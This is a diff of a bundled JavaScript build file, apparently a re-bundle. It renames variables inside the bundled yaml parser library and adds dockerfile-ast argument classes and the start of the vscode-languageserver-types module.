       return typeof idx === "number" && Number.isInteger(idx) && idx >= 0 ? idx : null;
     }
-    exports.YAMLSeq = YAMLSeq;
+    exports.YAMLSeq = YAMLSeq2;
   }
 });
 
@@ -21410,18 +21423,18 @@ var require_seq = __commonJS({
   "node_modules/yaml/dist/schema/common/seq.js"(exports) {
     "use strict";
     var identity = require_identity();
-    var YAMLSeq = require_YAMLSeq();
+    var YAMLSeq2 = require_YAMLSeq();
     var seq = {
       collection: "seq",
       default: true,
-      nodeClass: YAMLSeq.YAMLSeq,
+      nodeClass: YAMLSeq2.YAMLSeq,
       tag: "tag:yaml.org,2002:seq",
       resolve(seq2, onError) {
         if (!identity.isSeq(seq2))
           onError("Expected a sequence for this tag");
         return seq2;
       },
-      createNode: (schema, obj, ctx) => YAMLSeq.YAMLSeq.from(schema, obj, ctx)
+      createNode: (schema, obj, ctx) => YAMLSeq2.YAMLSeq.from(schema, obj, ctx)
     };
     exports.seq = seq;
   }
@@ -21774,7 +21787,7 @@ var require_pairs = __commonJS({
     var identity = require_identity();
     var Pair = require_Pair();
     var Scalar = require_Scalar();
-    var YAMLSeq = require_YAMLSeq();
+    var YAMLSeq2 = require_YAMLSeq();
     function resolvePairs(seq, onError) {
       if (identity.isSeq(seq)) {
         for (let i = 0; i < seq.items.length; ++i) {
@@ -21803,7 +21816,7 @@ ${cn.comment}` : item.comment;
     }
     function createPairs(schema, iterable, ctx) {
       const { replacer } = ctx;
-      const pairs2 = new YAMLSeq.YAMLSeq(schema);
+      const pairs2 = new YAMLSeq2.YAMLSeq(schema);
       pairs2.tag = "tag:yaml.org,2002:pairs";
       let i = 0;
       if (iterable && Symbol.iterator in Object(iterable))
@@ -21852,9 +21865,9 @@ var require_omap = __commonJS({
     var identity = require_identity();
     var toJS = require_toJS();
     var YAMLMap = require_YAMLMap();
-    var YAMLSeq = require_YAMLSeq();
+    var YAMLSeq2 = require_YAMLSeq();
     var pairs = require_pairs();
-    var YAMLOMap = class _YAMLOMap extends YAMLSeq.YAMLSeq {
+    var YAMLOMap = class _YAMLOMap extends YAMLSeq2.YAMLSeq {
       constructor() {
         super();
         this.add = YAMLMap.YAMLMap.prototype.add.bind(this);
@@ -22824,22 +22837,22 @@ var require_errors2 = __commonJS({
   "node_modules/yaml/dist/errors.js"(exports) {
     "use strict";
     var YAMLError = class extends Error {
-      constructor(name, pos, code, message) {
+      constructor(name, pos, code3, message) {
         super();
         this.name = name;
-        this.code = code;
+        this.code = code3;
         this.message = message;
         this.pos = pos;
       }
     };
     var YAMLParseError = class extends YAMLError {
-      constructor(pos, code, message) {
-        super("YAMLParseError", pos, code, message);
+      constructor(pos, code3, message) {
+        super("YAMLParseError", pos, code3, message);
       }
     };
     var YAMLWarning = class extends YAMLError {
-      constructor(pos, code, message) {
-        super("YAMLWarning", pos, code, message);
+      constructor(pos, code3, message) {
+        super("YAMLWarning", pos, code3, message);
       }
     };
     var prettifyError = (src, lc) => (error2) => {
@@ -23083,12 +23096,12 @@ var require_util_map_includes = __commonJS({
   "node_modules/yaml/dist/compose/util-map-includes.js"(exports) {
     "use strict";
     var identity = require_identity();
-    function mapIncludes(ctx, items, search) {
+    function mapIncludes(ctx, items2, search) {
       const { uniqueKeys } = ctx.options;
       if (uniqueKeys === false)
         return false;
       const isEqual = typeof uniqueKeys === "function" ? uniqueKeys : (a, b) => a === b || identity.isScalar(a) && identity.isScalar(b) && a.value === b.value;
-      return items.some((pair2) => isEqual(pair2.key, search));
+      return items2.some((pair2) => isEqual(pair2.key, search));
     }
     exports.mapIncludes = mapIncludes;
   }
@@ -23206,11 +23219,11 @@ var require_resolve_block_map = __commonJS({
 var require_resolve_block_seq = __commonJS({
   "node_modules/yaml/dist/compose/resolve-block-seq.js"(exports) {
     "use strict";
-    var YAMLSeq = require_YAMLSeq();
+    var YAMLSeq2 = require_YAMLSeq();
     var resolveProps = require_resolve_props();
     var utilFlowIndentCheck = require_util_flow_indent_check();
     function resolveBlockSeq({ composeNode, composeEmptyNode }, ctx, bs, onError, tag) {
-      const NodeClass = tag?.nodeClass ?? YAMLSeq.YAMLSeq;
+      const NodeClass = tag?.nodeClass ?? YAMLSeq2.YAMLSeq;
       const seq = new NodeClass(ctx.schema);
       if (ctx.atRoot)
         ctx.atRoot = false;
@@ -23303,7 +23316,7 @@ var require_resolve_flow_collection = __commonJS({
     var identity = require_identity();
     var Pair = require_Pair();
     var YAMLMap = require_YAMLMap();
-    var YAMLSeq = require_YAMLSeq();
+    var YAMLSeq2 = require_YAMLSeq();
     var resolveEnd = require_resolve_end();
     var resolveProps = require_resolve_props();
     var utilContainsNewline = require_util_contains_newline();
@@ -23311,9 +23324,9 @@ var require_resolve_flow_collection = __commonJS({
     var blockMsg = "Block collections are not allowed within flow collections";
     var isBlock = (token) => token && (token.type === "block-map" || token.type === "block-seq");
     function resolveFlowCollection({ composeNode, composeEmptyNode }, ctx, fc, onError, tag) {
-      const isMap3 = fc.start.source === "{";
-      const fcName = isMap3 ? "flow map" : "flow sequence";
-      const NodeClass = tag?.nodeClass ?? (isMap3 ? YAMLMap.YAMLMap : YAMLSeq.YAMLSeq);
+      const isMap6 = fc.start.source === "{";
+      const fcName = isMap6 ? "flow map" : "flow sequence";
+      const NodeClass = tag?.nodeClass ?? (isMap6 ? YAMLMap.YAMLMap : YAMLSeq2.YAMLSeq);
       const coll = new NodeClass(ctx.schema);
       coll.flow = true;
       const atRoot = ctx.atRoot;
@@ -23349,7 +23362,7 @@ var require_resolve_flow_collection = __commonJS({
             offset = props.end;
             continue;
           }
-          if (!isMap3 && ctx.options.strict && utilContainsNewline.containsNewline(key))
+          if (!isMap6 && ctx.options.strict && utilContainsNewline.containsNewline(key))
             onError(
               key,
               // checked by containsNewline()
@@ -23389,7 +23402,7 @@ var require_resolve_flow_collection = __commonJS({
             }
           }
         }
-        if (!isMap3 && !sep2 && !props.found) {
+        if (!isMap6 && !sep2 && !props.found) {
           const valueNode = value ? composeNode(ctx, value, props, onError) : composeEmptyNode(ctx, props.end, sep2, null, props, onError);
           coll.items.push(valueNode);
           offset = valueNode.range[2];
@@ -23412,7 +23425,7 @@ var require_resolve_flow_collection = __commonJS({
             startOnNewline: false
           });
           if (valueProps.found) {
-            if (!isMap3 && !props.found && ctx.options.strict) {
+            if (!isMap6 && !props.found && ctx.options.strict) {
               if (sep2)
                 for (const st of sep2) {
                   if (st === valueProps.found)
@@ -23444,7 +23457,7 @@ var require_resolve_flow_collection = __commonJS({
           const pair2 = new Pair.Pair(keyNode, valueNode);
           if (ctx.options.keepSourceTokens)
             pair2.srcToken = collItem;
-          if (isMap3) {
+          if (isMap6) {
             const map = coll;
             if (utilMapIncludes.mapIncludes(ctx, map.items, keyNode))
               onError(keyStart, "DUPLICATE_KEY", "Map keys must be unique");
@@ -23460,7 +23473,7 @@ var require_resolve_flow_collection = __commonJS({
           offset = valueNode ? valueNode.range[2] : valueProps.end;
         }
       }
-      const expectedEnd = isMap3 ? "}" : "]";
+      const expectedEnd = isMap6 ? "}" : "]";
       const [ce, ...ee] = fc.end;
       let cePos = offset;
       if (ce?.source === expectedEnd)
@@ -23497,7 +23510,7 @@ var require_compose_collection = __commonJS({
     var identity = require_identity();
     var Scalar = require_Scalar();
     var YAMLMap = require_YAMLMap();
-    var YAMLSeq = require_YAMLSeq();
+    var YAMLSeq2 = require_YAMLSeq();
     var resolveBlockMap = require_resolve_block_map();
     var resolveBlockSeq = require_resolve_block_seq();
     var resolveFlowCollection = require_resolve_flow_collection();
@@ -23524,7 +23537,7 @@ var require_compose_collection = __commonJS({
         }
       }
       const expType = token.type === "block-map" ? "map" : token.type === "block-seq" ? "seq" : token.start.source === "{" ? "map" : "seq";
-      if (!tagToken || !tagName || tagName === "!" || tagName === YAMLMap.YAMLMap.tagName && expType === "map" || tagName === YAMLSeq.YAMLSeq.tagName && expType === "seq") {
+      if (!tagToken || !tagName || tagName === "!" || tagName === YAMLMap.YAMLMap.tagName && expType === "map" || tagName === YAMLSeq2.YAMLSeq.tagName && expType === "seq") {
         return resolveCollection(CN, ctx, token, onError, tagName);
       }
       let tag = ctx.schema.tags.find((t) => t.tag === tagName && t.collection === expType);
@@ -23748,7 +23761,7 @@ var require_resolve_flow_scalar = __commonJS({
       const { offset, type, source, end } = scalar;
       let _type;
       let value;
-      const _onError = (rel, code, msg) => onError(offset + rel, code, msg);
+      const _onError = (rel, code3, msg) => onError(offset + rel, code3, msg);
       switch (type) {
         case "scalar":
           _type = Scalar.Scalar.PLAIN;
@@ -23946,9 +23959,9 @@ var require_resolve_flow_scalar = __commonJS({
     function parseCharCode(source, offset, length, onError) {
       const cc = source.substr(offset, length);
       const ok = cc.length === length && /^[0-9a-fA-F]+$/.test(cc);
-      const code = ok ? parseInt(cc, 16) : NaN;
+      const code3 = ok ? parseInt(cc, 16) : NaN;
       try {
-        return String.fromCodePoint(code);
+        return String.fromCodePoint(code3);
       } catch {
         const raw = source.substr(offset - 2, length + 2);
         onError(offset - 2, "BAD_DQ_ESCAPE", `Invalid escape sequence ${raw}`);
@@ -23968,7 +23981,7 @@ var require_compose_scalar = __commonJS({
     var resolveBlockScalar = require_resolve_block_scalar();
     var resolveFlowScalar = require_resolve_flow_scalar();
     function composeScalar(ctx, token, tagToken, onError) {
-      const { value, type, comment, range: range2 } = token.type === "block-scalar" ? resolveBlockScalar.resolveBlockScalar(ctx, token, onError) : resolveFlowScalar.resolveFlowScalar(token, ctx.options.strict, onError);
+      const { value, type, comment, range: range3 } = token.type === "block-scalar" ? resolveBlockScalar.resolveBlockScalar(ctx, token, onError) : resolveFlowScalar.resolveFlowScalar(token, ctx.options.strict, onError);
       const tagName = tagToken ? ctx.directives.tagName(tagToken.source, (msg) => onError(tagToken, "TAG_RESOLVE_FAILED", msg)) : null;
       let tag;
       if (ctx.options.stringKeys && ctx.atKey) {
@@ -23988,7 +24001,7 @@ var require_compose_scalar = __commonJS({
         onError(tagToken ?? token, "TAG_RESOLVE_FAILED", msg);
         scalar = new Scalar.Scalar(value);
       }
-      scalar.range = range2;
+      scalar.range = range3;
       scalar.source = value;
       if (type)
         scalar.type = type;
@@ -24270,12 +24283,12 @@ var require_composer = __commonJS({
         this.prelude = [];
         this.errors = [];
         this.warnings = [];
-        this.onError = (source, code, message, warning2) => {
+        this.onError = (source, code3, message, warning2) => {
           const pos = getErrorPos(source);
           if (warning2)
-            this.warnings.push(new errors.YAMLWarning(pos, code, message));
+            this.warnings.push(new errors.YAMLWarning(pos, code3, message));
           else
-            this.errors.push(new errors.YAMLParseError(pos, code, message));
+            this.errors.push(new errors.YAMLParseError(pos, code3, message));
         };
         this.directives = new directives.Directives({ version: options.version || "1.2" });
         this.options = options;
@@ -24437,12 +24450,12 @@ var require_cst_scalar = __commonJS({
     var stringifyString = require_stringifyString();
     function resolveAsScalar(token, strict = true, onError) {
       if (token) {
-        const _onError = (pos, code, message) => {
+        const _onError = (pos, code3, message) => {
           const offset = typeof pos === "number" ? pos : Array.isArray(pos) ? pos[0] : pos.offset;
           if (onError)
-            onError(offset, code, message);
+            onError(offset, code3, message);
           else
-            throw new errors.YAMLParseError([offset, offset + 1], code, message);
+            throw new errors.YAMLParseError([offset, offset + 1], code3, message);
         };
         switch (token.type) {
           case "scalar":
@@ -24747,7 +24760,7 @@ var require_cst = __commonJS({
     var FLOW_END = "";
     var SCALAR = "";
     var isCollection = (token) => !!token && "items" in token;
-    var isScalar3 = (token) => !!token && (token.type === "scalar" || token.type === "single-quoted-scalar" || token.type === "double-quoted-scalar" || token.type === "block-scalar");
+    var isScalar7 = (token) => !!token && (token.type === "scalar" || token.type === "single-quoted-scalar" || token.type === "double-quoted-scalar" || token.type === "block-scalar");
     function prettyToken(token) {
       switch (token) {
         case BOM:
@@ -24831,7 +24844,7 @@ var require_cst = __commonJS({
     exports.FLOW_END = FLOW_END;
     exports.SCALAR = SCALAR;
     exports.isCollection = isCollection;
-    exports.isScalar = isScalar3;
+    exports.isScalar = isScalar7;
     exports.prettyToken = prettyToken;
     exports.tokenType = tokenType;
   }
@@ -25430,7 +25443,7 @@ var require_lexer = __commonJS({
 var require_line_counter = __commonJS({
   "node_modules/yaml/dist/parse/line-counter.js"(exports) {
     "use strict";
-    var LineCounter2 = class {
+    var LineCounter3 = class {
       constructor() {
         this.lineStarts = [];
         this.addNewLine = (offset) => this.lineStarts.push(offset);
@@ -25453,7 +25466,7 @@ var require_line_counter = __commonJS({
         };
       }
     };
-    exports.LineCounter = LineCounter2;
+    exports.LineCounter = LineCounter3;
   }
 });
 
@@ -25554,7 +25567,7 @@ var require_parser = __commonJS({
         }
       }
     }
-    var Parser = class {
+    var Parser2 = class {
       /**
        * @param onNewLine - If defined, called separately with the start position of
        *   each new line (in `parse()`, including the start of input).
@@ -26327,7 +26340,7 @@ var require_parser = __commonJS({
         }
       }
     };
-    exports.Parser = Parser;
+    exports.Parser = Parser2;
   }
 });
 
@@ -26347,7 +26360,7 @@ var require_public_api = __commonJS({
       const lineCounter$1 = options.lineCounter || prettyErrors && new lineCounter.LineCounter() || null;
       return { lineCounter: lineCounter$1, prettyErrors };
     }
-    function parseAllDocuments2(source, options = {}) {
+    function parseAllDocuments3(source, options = {}) {
       const { lineCounter: lineCounter2, prettyErrors } = parseOptions(options);
       const parser$1 = new parser.Parser(lineCounter2?.addNewLine);
       const composer$1 = new composer.Composer(options);
@@ -26422,7 +26435,7 @@ var require_public_api = __commonJS({
       return new Document.Document(value, _replacer, options).toString(options);
     }
     exports.parse = parse;
-    exports.parseAllDocuments = parseAllDocuments2;
+    exports.parseAllDocuments = parseAllDocuments3;
     exports.parseDocument = parseDocument;
     exports.stringify = stringify;
   }
@@ -26441,7 +26454,7 @@ var require_dist = __commonJS({
     var Pair = require_Pair();
     var Scalar = require_Scalar();
     var YAMLMap = require_YAMLMap();
-    var YAMLSeq = require_YAMLSeq();
+    var YAMLSeq2 = require_YAMLSeq();
     var cst = require_cst();
     var lexer = require_lexer();
     var lineCounter = require_line_counter();
@@ -26466,7 +26479,7 @@ var require_dist = __commonJS({
     exports.Pair = Pair.Pair;
     exports.Scalar = Scalar.Scalar;
     exports.YAMLMap = YAMLMap.YAMLMap;
-    exports.YAMLSeq = YAMLSeq.YAMLSeq;
+    exports.YAMLSeq = YAMLSeq2.YAMLSeq;
     exports.CST = cst;
     exports.Lexer = lexer.Lexer;
     exports.LineCounter = lineCounter.LineCounter;
@@ -26477,6 +26490,5822 @@ var require_dist = __commonJS({
     exports.stringify = publicApi.stringify;
     exports.visit = visit.visit;
     exports.visitAsync = visit.visitAsync;
+  }
+});
+
+// node_modules/dockerfile-ast/lib/argument.js
+var require_argument = __commonJS({
+  "node_modules/dockerfile-ast/lib/argument.js"(exports) {
+    "use strict";
+    Object.defineProperty(exports, "__esModule", { value: true });
+    exports.Argument = void 0;
+    var Argument = class {
+      constructor(value, range3) {
+        this.value = value;
+        this.range = range3;
+      }
+      toString() {
+        return this.value;
+      }
+      getRange() {
+        return this.range;
+      }
+      getValue() {
+        return this.value;
+      }
+      isAfter(position) {
+        if (this.range.end.line < position.line) {
+          return false;
+        }
+        return this.range.start.line > position.line ? true : this.range.start.character > position.character;
+      }
+      isBefore(position) {
+        if (this.range.start.line < position.line) {
+          return true;
+        }
+        return this.range.end.line > position.line ? false : this.range.end.character < position.character;
+      }
+    };
+    exports.Argument = Argument;
+  }
+});
+
+// node_modules/dockerfile-ast/lib/jsonArgument.js
+var require_jsonArgument = __commonJS({
+  "node_modules/dockerfile-ast/lib/jsonArgument.js"(exports) {
+    "use strict";
+    Object.defineProperty(exports, "__esModule", { value: true });
+    exports.JSONArgument = void 0;
+    var argument_1 = require_argument();
+    var JSONArgument = class extends argument_1.Argument {
+      constructor(value, range3, jsonRange) {
+        super(value, range3);
+        this.jsonRange = jsonRange;
+      }
+      getJSONRange() {
+        return this.jsonRange;
+      }
+      getJSONValue() {
+        let value = super.getValue();
+        value = value.substring(1, value.length - 1);
+        return value;
+      }
+    };
+    exports.JSONArgument = JSONArgument;
+  }
+});
+
+// node_modules/vscode-languageserver-types/lib/esm/main.js
+var main_exports = {};
+__export(main_exports, {
+  AnnotatedTextEdit: () => AnnotatedTextEdit,
+  ApplyKind: () => ApplyKind,
+  ChangeAnnotation: () => ChangeAnnotation,
+  ChangeAnnotationIdentifier: () => ChangeAnnotationIdentifier,
+  CodeAction: () => CodeAction,
+  CodeActionContext: () => CodeActionContext,
+  CodeActionKind: () => CodeActionKind,
+  CodeActionTag: () => CodeActionTag,
+  CodeActionTriggerKind: () => CodeActionTriggerKind,
+  CodeDescription: () => CodeDescription,
+  CodeLens: () => CodeLens,
+  Color: () => Color,
+  ColorInformation: () => ColorInformation,
+  ColorPresentation: () => ColorPresentation,
+  Command: () => Command2,
+  CompletionItem: () => CompletionItem,
+  CompletionItemKind: () => CompletionItemKind,
+  CompletionItemLabelDetails: () => CompletionItemLabelDetails,
+  CompletionItemTag: () => CompletionItemTag,
+  CompletionList: () => CompletionList,
+  CreateFile: () => CreateFile,
+  DeleteFile: () => DeleteFile,
+  Diagnostic: () => Diagnostic,
+  DiagnosticRelatedInformation: () => DiagnosticRelatedInformation,
+  DiagnosticSeverity: () => DiagnosticSeverity,
+  DiagnosticTag: () => DiagnosticTag,
+  DocumentHighlight: () => DocumentHighlight,
+  DocumentHighlightKind: () => DocumentHighlightKind,
+  DocumentLink: () => DocumentLink,
+  DocumentSymbol: () => DocumentSymbol,
+  DocumentUri: () => DocumentUri,
+  EOL: () => EOL5,
+  FoldingRange: () => FoldingRange,
+  FoldingRangeKind: () => FoldingRangeKind,
+  FormattingOptions: () => FormattingOptions,
+  Hover: () => Hover,
+  InlayHint: () => InlayHint,
+  InlayHintKind: () => InlayHintKind,
+  InlayHintLabelPart: () => InlayHintLabelPart,
+  InlineCompletionContext: () => InlineCompletionContext,
+  InlineCompletionItem: () => InlineCompletionItem,
+  InlineCompletionList: () => InlineCompletionList,
+  InlineCompletionTriggerKind: () => InlineCompletionTriggerKind,
+  InlineValueContext: () => InlineValueContext,
+  InlineValueEvaluatableExpression: () => InlineValueEvaluatableExpression,
+  InlineValueText: () => InlineValueText,
+  InlineValueVariableLookup: () => InlineValueVariableLookup,
+  InsertReplaceEdit: () => InsertReplaceEdit,
+  InsertTextFormat: () => InsertTextFormat,
+  InsertTextMode: () => InsertTextMode,
+  LanguageKind: () => LanguageKind,
+  Location: () => Location,
+  LocationLink: () => LocationLink,
+  MarkedString: () => MarkedString,
+  MarkupContent: () => MarkupContent,
+  MarkupKind: () => MarkupKind,
+  OptionalVersionedTextDocumentIdentifier: () => OptionalVersionedTextDocumentIdentifier,
+  ParameterInformation: () => ParameterInformation,
+  Position: () => Position,
+  Range: () => Range,
+  RenameFile: () => RenameFile,
+  SelectedCompletionInfo: () => SelectedCompletionInfo,
+  SelectionRange: () => SelectionRange,
+  SemanticTokenModifiers: () => SemanticTokenModifiers,
+  SemanticTokenTypes: () => SemanticTokenTypes,
+  SemanticTokens: () => SemanticTokens,
+  SignatureInformation: () => SignatureInformation,
+  SnippetTextEdit: () => SnippetTextEdit,
+  StringValue: () => StringValue,
+  SymbolInformation: () => SymbolInformation,
+  SymbolKind: () => SymbolKind,
+  SymbolTag: () => SymbolTag,
+  TextDocument: () => TextDocument,
+  TextDocumentEdit: () => TextDocumentEdit,
+  TextDocumentIdentifier: () => TextDocumentIdentifier,
+  TextDocumentItem: () => TextDocumentItem,
+  TextEdit: () => TextEdit,
+  URI: () => URI,
+  VersionedTextDocumentIdentifier: () => VersionedTextDocumentIdentifier,
+  WorkspaceChange: () => WorkspaceChange,
+  WorkspaceEdit: () => WorkspaceEdit,
+  WorkspaceFolder: () => WorkspaceFolder,
+  WorkspaceSymbol: () => WorkspaceSymbol,
+  integer: () => integer,
+  uinteger: () => uinteger
+});
+var DocumentUri, URI, integer, uinteger, Position, Range, Location, LocationLink, Color, ColorInformation, ColorPresentation, FoldingRangeKind, FoldingRange, DiagnosticRelatedInformation, DiagnosticSeverity, DiagnosticTag, CodeDescription, Diagnostic, Command2, TextEdit, ChangeAnnotation, ChangeAnnotationIdentifier, AnnotatedTextEdit, TextDocumentEdit, CreateFile, RenameFile, DeleteFile, WorkspaceEdit, TextEditChangeImpl, SnippetTextEdit, ChangeAnnotations, WorkspaceChange, TextDocumentIdentifier, VersionedTextDocumentIdentifier, OptionalVersionedTextDocumentIdentifier, LanguageKind, TextDocumentItem, MarkupKind, MarkupContent, CompletionItemKind, InsertTextFormat, CompletionItemTag, InsertReplaceEdit, InsertTextMode, ApplyKind, CompletionItemLabelDetails, CompletionItem, CompletionList, MarkedString, Hover, ParameterInformation, SignatureInformation, DocumentHighlightKind, DocumentHighlight, SymbolKind, SymbolTag, SymbolInformation, WorkspaceSymbol, DocumentSymbol, CodeActionKind, CodeActionTriggerKind, CodeActionContext, CodeActionTag, CodeAction, CodeLens, FormattingOptions, DocumentLink, SelectionRange, SemanticTokenTypes, SemanticTokenModifiers, SemanticTokens, InlineValueText, InlineValueVariableLookup, InlineValueEvaluatableExpression, InlineValueContext, InlayHintKind, InlayHintLabelPart, InlayHint, StringValue, InlineCompletionItem, InlineCompletionList, InlineCompletionTriggerKind, SelectedCompletionInfo, InlineCompletionContext, WorkspaceFolder, EOL5, TextDocument, FullTextDocument, Is;
+var init_main = __esm({
+  "node_modules/vscode-languageserver-types/lib/esm/main.js"() {
+    "use strict";
+    (function(DocumentUri2) {
+      function is(value) {
+        return typeof value === "string";
+      }
+      DocumentUri2.is = is;
+    })(DocumentUri || (DocumentUri = {}));
+    (function(URI2) {
+      function is(value) {
+        return typeof value === "string";
+      }
+      URI2.is = is;
+    })(URI || (URI = {}));
+    (function(integer2) {
+      integer2.MIN_VALUE = -2147483648;
+      integer2.MAX_VALUE = 2147483647;
+      function is(value) {
+        return typeof value === "number" && integer2.MIN_VALUE <= value && value <= integer2.MAX_VALUE;
+      }
+      integer2.is = is;
+    })(integer || (integer = {}));
+    (function(uinteger2) {
+      uinteger2.MIN_VALUE = 0;
+      uinteger2.MAX_VALUE = 2147483647;
+      function is(value) {
+        return typeof value === "number" && uinteger2.MIN_VALUE <= value && value <= uinteger2.MAX_VALUE;
+      }
+      uinteger2.is = is;
+    })(uinteger || (uinteger = {}));
+    (function(Position2) {
+      function create(line, character) {
+        if (line === Number.MAX_VALUE) {
+          line = uinteger.MAX_VALUE;
+        }
+        if (character === Number.MAX_VALUE) {
+          character = uinteger.MAX_VALUE;
+        }
+        return { line, character };
+      }
+      Position2.create = create;
+      function is(value) {
+        const candidate = value;
+        return Is.objectLiteral(candidate) && Is.uinteger(candidate.line) && Is.uinteger(candidate.character);
+      }
+      Position2.is = is;
+    })(Position || (Position = {}));
+    (function(Range2) {
+      function create(one, two, three, four) {
+        if (Is.uinteger(one) && Is.uinteger(two) && Is.uinteger(three) && Is.uinteger(four)) {
+          return { start: Position.create(one, two), end: Position.create(three, four) };
+        } else if (Position.is(one) && Position.is(two)) {
+          return { start: one, end: two };
+        } else {
+          throw new Error(`Range#create called with invalid arguments[${one}, ${two}, ${three}, ${four}]`);
+        }
+      }
+      Range2.create = create;
+      function is(value) {
+        const candidate = value;
+        return Is.objectLiteral(candidate) && Position.is(candidate.start) && Position.is(candidate.end);
+      }
+      Range2.is = is;
+    })(Range || (Range = {}));
+    (function(Location2) {
+      function create(uri, range3) {
+        return { uri, range: range3 };
+      }
+      Location2.create = create;
+      function is(value) {
+        const candidate = value;
+        return Is.objectLiteral(candidate) && Range.is(candidate.range) && (Is.string(candidate.uri) || Is.undefined(candidate.uri));
+      }
+      Location2.is = is;
+    })(Location || (Location = {}));
+    (function(LocationLink2) {
+      function create(targetUri, targetRange, targetSelectionRange, originSelectionRange) {
+        return { targetUri, targetRange, targetSelectionRange, originSelectionRange };
+      }
+      LocationLink2.create = create;
+      function is(value) {
+        const candidate = value;
+        return Is.objectLiteral(candidate) && Range.is(candidate.targetRange) && Is.string(candidate.targetUri) && Range.is(candidate.targetSelectionRange) && (Range.is(candidate.originSelectionRange) || Is.undefined(candidate.originSelectionRange));
+      }
+      LocationLink2.is = is;
+    })(LocationLink || (LocationLink = {}));
+    (function(Color2) {
+      function create(red, green, blue, alpha) {
+        return {
+          red,
+          green,
+          blue,
+          alpha
+        };
+      }
+      Color2.create = create;
+      function is(value) {
+        const candidate = value;
+        return Is.objectLiteral(candidate) && Is.numberRange(candidate.red, 0, 1) && Is.numberRange(candidate.green, 0, 1) && Is.numberRange(candidate.blue, 0, 1) && Is.numberRange(candidate.alpha, 0, 1);
+      }
+      Color2.is = is;
+    })(Color || (Color = {}));
+    (function(ColorInformation2) {
+      function create(range3, color) {
+        return {
+          range: range3,
+          color
+        };
+      }
+      ColorInformation2.create = create;
+      function is(value) {
+        const candidate = value;
+        return Is.objectLiteral(candidate) && Range.is(candidate.range) && Color.is(candidate.color);
+      }
+      ColorInformation2.is = is;
+    })(ColorInformation || (ColorInformation = {}));
+    (function(ColorPresentation2) {
+      function create(label, textEdit, additionalTextEdits) {
+        return {
+          label,
+          textEdit,
+          additionalTextEdits
+        };
+      }
+      ColorPresentation2.create = create;
+      function is(value) {
+        const candidate = value;
+        return Is.objectLiteral(candidate) && Is.string(candidate.label) && (Is.undefined(candidate.textEdit) || TextEdit.is(candidate.textEdit)) && (Is.undefined(candidate.additionalTextEdits) || Is.typedArray(candidate.additionalTextEdits, TextEdit.is));
+      }
+      ColorPresentation2.is = is;
+    })(ColorPresentation || (ColorPresentation = {}));
+    (function(FoldingRangeKind2) {
+      FoldingRangeKind2.Comment = "comment";
+      FoldingRangeKind2.Imports = "imports";
+      FoldingRangeKind2.Region = "region";
+    })(FoldingRangeKind || (FoldingRangeKind = {}));
+    (function(FoldingRange2) {
+      function create(startLine, endLine, startCharacter, endCharacter, kind, collapsedText) {
+        const result = {
+          startLine,
+          endLine
+        };
+        if (Is.defined(startCharacter)) {
+          result.startCharacter = startCharacter;
+        }
+        if (Is.defined(endCharacter)) {
+          result.endCharacter = endCharacter;
+        }
+        if (Is.defined(kind)) {
+          result.kind = kind;
+        }
+        if (Is.defined(collapsedText)) {
+          result.collapsedText = collapsedText;
+        }
+        return result;
+      }
+      FoldingRange2.create = create;
+      function is(value) {
+        const candidate = value;
+        return Is.objectLiteral(candidate) && Is.uinteger(candidate.startLine) && Is.uinteger(candidate.endLine) && (Is.undefined(candidate.startCharacter) || Is.uinteger(candidate.startCharacter)) && (Is.undefined(candidate.endCharacter) || Is.uinteger(candidate.endCharacter)) && (Is.undefined(candidate.kind) || Is.string(candidate.kind));
+      }
+      FoldingRange2.is = is;
+    })(FoldingRange || (FoldingRange = {}));
+    (function(DiagnosticRelatedInformation2) {
+      function create(location2, message) {
+        return {
+          location: location2,
+          message
+        };
+      }
+      DiagnosticRelatedInformation2.create = create;
+      function is(value) {
+        const candidate = value;
+        return Is.defined(candidate) && Location.is(candidate.location) && Is.string(candidate.message);
+      }
+      DiagnosticRelatedInformation2.is = is;
+    })(DiagnosticRelatedInformation || (DiagnosticRelatedInformation = {}));
+    (function(DiagnosticSeverity2) {
+      DiagnosticSeverity2.Error = 1;
+      DiagnosticSeverity2.Warning = 2;
+      DiagnosticSeverity2.Information = 3;
+      DiagnosticSeverity2.Hint = 4;
+    })(DiagnosticSeverity || (DiagnosticSeverity = {}));
+    (function(DiagnosticTag2) {
+      DiagnosticTag2.Unnecessary = 1;
+      DiagnosticTag2.Deprecated = 2;
+    })(DiagnosticTag || (DiagnosticTag = {}));
+    (function(CodeDescription2) {
+      function is(value) {
+        const candidate = value;
+        return Is.objectLiteral(candidate) && Is.string(candidate.href);
+      }
+      CodeDescription2.is = is;
+    })(CodeDescription || (CodeDescription = {}));
+    (function(Diagnostic2) {
+      function create(range3, message, severity, code3, source, relatedInformation) {
+        const result = { range: range3, message };
+        if (Is.defined(severity)) {
+          result.severity = severity;
+        }
+        if (Is.defined(code3)) {
+          result.code = code3;
+        }
+        if (Is.defined(source)) {
+          result.source = source;
+        }
+        if (Is.defined(relatedInformation)) {
+          result.relatedInformation = relatedInformation;
+        }
+        return result;
+      }
+      Diagnostic2.create = create;
+      function is(value) {
+        var _a;
+        const candidate = value;
+        return Is.defined(candidate) && Range.is(candidate.range) && (Is.string(candidate.message) || MarkupContent.is(candidate.message)) && (Is.number(candidate.severity) || Is.undefined(candidate.severity)) && (Is.integer(candidate.code) || Is.string(candidate.code) || Is.undefined(candidate.code)) && (Is.undefined(candidate.codeDescription) || Is.string((_a = candidate.codeDescription) === null || _a === void 0 ? void 0 : _a.href)) && (Is.string(candidate.source) || Is.undefined(candidate.source)) && (Is.undefined(candidate.relatedInformation) || Is.typedArray(candidate.relatedInformation, DiagnosticRelatedInformation.is));
+      }
+      Diagnostic2.is = is;
+      function is3_17(value) {
+        return Is.string(value.message);
+      }
+      Diagnostic2.is3_17 = is3_17;
+      function getMessageString(diagnostic) {
+        if (Is.string(diagnostic.message)) {
+          return diagnostic.message;
+        } else if (MarkupContent.is(diagnostic.message)) {
+          return diagnostic.message.value;
+        } else {
+          throw new Error(`Unknown message type ${typeof diagnostic.message}`);
+        }
+      }
+      Diagnostic2.getMessageString = getMessageString;
+    })(Diagnostic || (Diagnostic = {}));
+    (function(Command3) {
+      function create(title, command, ...args) {
+        const result = { title, command };
+        if (Is.defined(args) && args.length > 0) {
+          result.arguments = args;
+        }
+        return result;
+      }
+      Command3.create = create;
+      function is(value) {
+        const candidate = value;
+        return Is.defined(candidate) && Is.string(candidate.title) && (candidate.tooltip === void 0 || Is.string(candidate.tooltip)) && Is.string(candidate.command);
+      }
+      Command3.is = is;
+    })(Command2 || (Command2 = {}));
+    (function(TextEdit2) {
+      function replace(range3, newText) {
+        return { range: range3, newText };
+      }
